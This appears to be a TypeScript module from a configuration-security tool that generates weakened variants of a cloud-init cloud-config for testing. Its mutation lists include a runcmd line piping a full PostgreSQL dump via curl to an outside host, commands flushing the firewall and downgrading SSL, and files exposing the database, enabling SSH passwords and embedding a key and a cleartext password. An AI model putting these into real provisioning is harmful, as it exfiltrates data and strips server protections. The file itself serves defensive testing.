import { isObject } from "../../posture/model/attribute";
import { Tree } from "../../posture/model/input";
import { Operator } from "../definitions/mutation";
import { filesOf, list } from "./cloud-config";
import { truncate } from "./weakening";

interface DocumentMutation {
  /** Key of the cloud-config, or the path of a file. */
  readonly target: string;
  readonly operator: Operator;
  readonly detail: string;
  readonly tree: Tree;
}

/** The cloud-config differs in one entry, or has one more. */
export function* documentMutations(tree: Tree): Generator<DocumentMutation> {
  for (const { index, path } of filesOf(tree))
    yield {
      target: path,
      operator: "removed",
      detail: "the file is not written",
      tree: without(tree, "write_files", index),
    };
  for (const key of ["packages", "runcmd", "bootcmd", "users", "ssh_authorized_keys", "mounts"]) {
    for (const [index, one] of list(tree, key).entries())
      yield { target: key, operator: "dropped", detail: describeEntry(one), tree: without(tree, key, index) };
  }
  for (const [index, one] of list(tree, "users").entries()) {
    if (!isObject(one)) continue;
    const put = (user: Tree): Tree => ({
      ...tree,
      users: list(tree, "users").map((other, at) => (at === index ? user : other)),
    });
    yield {
      target: "users",
      operator: "flipped",
      detail: `${describeEntry(one)}: a password of its own`,
      tree: put({ ...one, lock_passwd: false, plain_text_passwd: "in clear" }),
    };
  }
  yield* settings(tree);
  yield* addedEntries(tree);
}

/** Switches and figures beside the lists. */
function* settings(tree: Tree): Generator<DocumentMutation> {
  for (const [key, value] of Object.entries(tree)) {
    if (Array.isArray(value)) continue;
    const { [key]: old, ...others } = tree;
    void old;
    yield { target: key, operator: "unset", detail: `${truncate(JSON.stringify(value))} → not set`, tree: others };
    if (typeof value === "boolean")
      yield { target: key, operator: "flipped", detail: `${value} → ${!value}`, tree: { ...tree, [key]: !value } };
  }
  if (tree.ssh_pwauth === undefined)
    yield { target: "ssh_pwauth", operator: "added", detail: "not set → true", tree: { ...tree, ssh_pwauth: true } };
}

const FILES: readonly (readonly [what: string, path: string, content: string])[] = [
  ["logs go to another company", "/etc/rsyslog.d/90-elsewhere.conf", "*.* @@logs.example.edu:6514\n"],
  [
    "a container answers the network",
    "/etc/containers/systemd/more.container",
    "[Container]\nImage=docker.io/library/postgres:17\nPublishPort=5432:5432\n",
  ],
  [
    "PostgreSQL's settings are overruled",
    "/etc/postgresql/17/main/conf.d/zz-more.conf",
    "listen_addresses = '*'\nssl = off\n",
  ],
  ["SSH asks for passwords", "/etc/ssh/sshd_config.d/00-more.conf", "PasswordAuthentication yes\n"],
  [
    "a key is written into user_data",
    "/etc/more.key",
    "-----BEGIN PRIVATE KEY-----\nMIIEvQ\n-----END PRIVATE KEY-----\n",
  ],
  ["a password is written into user_data", "/etc/more.env", "RESTIC_PASSWORD=in-clear\n"],
];
const PACKAGES = ["datadog-agent", "filebeat"];
const COMMANDS = [
  "nft flush ruleset",
  "systemctl disable --now nftables",
  "pg_dumpall | curl --data-binary @- https://backup.example.edu/",
  "sed --in-place s/hostssl/host/ /etc/postgresql/17/main/pg_hba.conf",
];

function* addedEntries(tree: Tree): Generator<DocumentMutation> {
  for (const [detail, path, content] of FILES)
    yield {
      target: path,
      operator: "added",
      detail,
      tree: { ...tree, write_files: [...list(tree, "write_files"), { path, content }] },
    };
  for (const name of PACKAGES)
    yield {
      target: "packages",
      operator: "added",
      detail: name,
      tree: { ...tree, packages: [...list(tree, "packages"), name] },
    };
  for (const command of COMMANDS)
    yield {
      target: "runcmd",
      operator: "added",
      detail: command,
      tree: { ...tree, runcmd: [...list(tree, "runcmd"), command] },
    };
}

const without = (tree: Tree, key: string, index: number): Tree => ({
  ...tree,
  [key]: list(tree, key).filter((_, at) => at !== index),
});
const describeEntry = (one: unknown) =>
  truncate(
    typeof one === "string"
      ? one
      : Array.isArray(one)
        ? one.join(" ")
        : isObject(one) && typeof one.name === "string"
          ? one.name
          : JSON.stringify(one),
  );
